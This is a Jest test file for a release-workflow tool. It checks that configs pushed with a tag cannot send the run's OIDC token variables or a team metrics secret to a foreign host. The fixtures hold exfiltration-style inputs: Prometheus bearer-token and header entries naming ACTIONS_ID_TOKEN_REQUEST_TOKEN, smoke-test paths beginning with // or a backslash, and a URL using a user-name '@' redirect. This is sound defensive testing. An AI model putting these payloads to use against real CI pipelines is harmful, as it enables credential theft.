import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { type Listener, listenFor } from './harness/listener.ts'
import { CALLS_RELEASE, callsAction, METRICS_TOKEN, type Outcome, pushTag } from './harness/tag.ts'

/*
 * Whoever pushes a tag writes the config at its commit. What follows is such a config, with the suite's real workflow and
 * bundles, and a foreign host that writes down what it hears. It must hear nothing.
 */

let foreign: Listener
beforeEach(async () => {
  // What it would say, if it were asked: that it is the version, and a Prometheus without errors.
  const body = { version: '1.1.0', status: 'success', data: { resultType: 'matrix', result: [] } }
  foreign = await listenFor({ status: 200, body: JSON.stringify(body) })
})
afterEach(() => foreign.close())

/** The metric source of the attack; `more` in its mapping. */
const metrics = (more: string): string => `
gates: { require-reviewer: false }
metrics:
  source: prometheus
  prometheus:
    url: ${foreign.origin}
    requests: 'r{slot="\${slot}"}'
    errors: 'e{slot="\${slot}"}'
${more}`

const TOKEN = '    bearer-token: ACTIONS_ID_TOKEN_REQUEST_TOKEN'
const HEADERS =
  '    headers: { X-Token: ACTIONS_ID_TOKEN_REQUEST_TOKEN, X-Url: ACTIONS_ID_TOKEN_REQUEST_URL }'
const NO_SMOKE = '{ url: "https://shop.example.com", version: { json: version } }'

interface Attack {
  readonly name: string
  /** The config's part, and its smoke test. */
  readonly config: () => string
  readonly smoke: () => string
  /** The action that would send. */
  readonly action: string
  readonly says: readonly string[]
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'a bearer token',
    config: () => metrics(TOKEN),
    smoke: () => NO_SMOKE,
    action: 'shift-traffic',
    says: ['metrics.prometheus.bearer-token (line', 'a variable of the run itself, which no config may name'],
  },
  {
    name: 'headers',
    config: () => metrics(HEADERS),
    smoke: () => NO_SMOKE,
    action: 'shift-traffic',
    says: [
      'metrics.prometheus.headers.X-Token',
      'metrics.prometheus.headers.X-Url',
      'a variable of the run itself',
    ],
  },
  {
    name: 'a path of the smoke test with \\',
    config: () => '',
    smoke: () =>
      `{ url: "https://shop.example.com", version: { json: version, path: '/\\${foreign.host}/fake' } }`,
    action: 'smoke-test',
    says: ['smoke.version.path (line', 'has a \\\\'],
  },
  {
    name: 'a path of the smoke test with //',
    config: () => '',
    smoke: () =>
      `{ url: "https://shop.example.com", version: { json: version, path: '//${foreign.host}/fake' } }`,
    action: 'smoke-test',
    says: ['smoke.version.path (line', 'begins with //'],
  },
  {
    name: 'a smoke.url with a user name',
    config: () => '',
    smoke: () => `{ url: "https://shop.example.com@${foreign.host}", version: { json: version } }`,
    action: 'smoke-test',
    says: ['smoke.url (line', 'holds a user name or a password'],
  },
]

/** JSON escapes what it quotes, and so does a message that quotes JSON. */
const plain = (text: string): string => text.replaceAll('\\', '')

const nothingLeft = (outcome: Outcome): void => {
  expect(foreign.heard).toEqual([])
  expect(outcome.aws).toEqual([])
  expect(outcome.conclusion).toBe('failure')
  expect(outcome.shown).not.toContain(METRICS_TOKEN)
}

describe('before an approval: the gates refuse it, and nobody is asked', () => {
  test.each(ATTACKS)('$name', async ({ config, smoke, says }) => {
    const outcome = await pushTag({ config: config(), smoke: smoke(), workflow: CALLS_RELEASE })
    nothingLeft(outcome)
    expect(outcome.ran).toEqual({ 'release/validate': 'failure' })
    expect(outcome.approved).toEqual([])
    expect(outcome.shown).toContain('config-valid')
    for (const each of says) expect(plain(outcome.shown)).toContain(plain(each))
  })
})

describe('after an approval, past the gates: the action refuses it', () => {
  test.each(ATTACKS)('$name', async ({ config, smoke, action, says }) => {
    const outcome = await pushTag({ config: config(), smoke: smoke(), workflow: callsAction(action) })
    nothingLeft(outcome)
    expect(outcome.ran).toEqual({ alone: 'failure' })
    expect(outcome.approved).toEqual(['production-traffic'])
    for (const each of says) expect(plain(outcome.shown)).toContain(plain(each))
  })
})

describe('the team’s own secret, and a config that names another host', () => {
  test.each([
    ['a token', "metrics-token: '${{ secrets.METRICS_TOKEN }}'"],
    ['a header', "metrics-headers: 'X-Key: ${{ secrets.METRICS_TOKEN }}'"],
  ])('%s', async (_, input) => {
    const outcome = await pushTag({ config: metrics(''), workflow: callsAction('shift-traffic', input) })
    nothingLeft(outcome)
    expect(outcome.ran).toEqual({ alone: 'failure' })
    expect(plain(outcome.shown)).toContain(`are not sent to ${foreign.origin}`)
    expect(plain(outcome.shown)).toContain(
      `origins: { metrics: ["${foreign.origin}"] } under environments.production`,
    )
  })
})

test('where the policy of the default branch trusts the host, the release goes on', async () => {
  const outcome = await pushTag({
    config: metrics(''),
    smoke: NO_SMOKE,
    workflow: callsAction('shift-traffic', "metrics-token: '${{ secrets.METRICS_TOKEN }}'"),
    policy: `version: 1
environments:
  production:
    origins: { metrics: ['${foreign.origin}'] }
`,
  })
  expect(outcome.shown).not.toContain('are not sent')
  // It went on to ask AWS, which here refuses everything.
  expect(outcome.aws.length).toBeGreaterThan(0)
  expect(outcome.shown).not.toContain(METRICS_TOKEN)
})

test('the way back is not stopped by such a config: it has no use for the metric source', async () => {
  const outcome = await pushTag({
    config: metrics(`${TOKEN}\n${HEADERS}`),
    smoke: NO_SMOKE,
    workflow: callsAction('rollback', 'mode: automatic'),
  })
  expect(foreign.heard).toEqual([])
  expect(plain(outcome.shown)).not.toContain('bearer-token')
  // It went on to ask AWS, which here refuses everything.
  expect(outcome.aws.length).toBeGreaterThan(0)
})
